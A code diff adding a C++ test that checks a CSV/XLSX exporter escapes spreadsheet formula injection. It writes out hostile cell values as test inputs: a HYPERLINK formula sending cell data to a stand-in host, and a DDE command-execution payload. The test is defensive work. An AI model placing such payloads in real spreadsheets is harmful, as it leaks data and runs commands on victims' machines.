@@ -76,6 +76,31 @@ TEST_F(DocumentsTest, CsvHasBomSemicolonsAndRfc4180Quoting) {
             "\xEF\xBB\xBFПоле;Значение\r\n\"a;b\";\"he said \"\"да\"\"\"\r\n\"line\nbreak\";x\r\n");
 }
 
+// A spreadsheet opening the CSV must not run a formula typed into a family's name or a note.
+TEST_F(DocumentsTest, CsvCellsThatASpreadsheetWouldRunAsFormulasAreText) {
+  Sheet sheet{"Тест",
+              "Тест",
+              {"Поле", "Значение"},
+              {{"=HYPERLINK(\"http://x.example/?\"&A1;\"Смирнова\")", "+7 913 555-12-34"},
+               {"-5 км", "@SUM(A1:A2)"},
+               {"\t=1+1", "\r=1+1"},
+               {"-5", "12,50"},
+               {"-2+3+cmd|' /C calc'!A0", "Смирнова Ольга = представитель"}}};
+  EXPECT_EQ(ToCsv(sheet),
+            "\xEF\xBB\xBFПоле;Значение\r\n"
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Смирнова\"\")\";'+7 913 555-12-34\r\n"
+            "'-5 км;'@SUM(A1:A2)\r\n"
+            "'\t=1+1;\"'\r=1+1\"\r\n"
+            "-5;12,50\r\n"
+            "'-2+3+cmd|' /C calc'!A0;Смирнова Ольга = представитель\r\n");
+
+  // In XLSX the same text is a string cell, never a formula (<f>).
+  const std::string path = dir_.File("formulas.xlsx");
+  WriteFile(path, Must(ToXlsx(sheet)));
+  EXPECT_FALSE(Has(Shell("unzip -p '" + path + "' xl/worksheets/sheet1.xml"), "<f>"));
+  EXPECT_TRUE(Has(Shell("unzip -p '" + path + "' xl/sharedStrings.xml"), "=HYPERLINK("));
+}
+
 TEST_F(DocumentsTest, ExportsHoldTheSameRowsAsCsvAndXlsx) {
   AgreementId id = Lend(2);
   const std::string number = Must(agreements_.Get(staff_, id)).number;
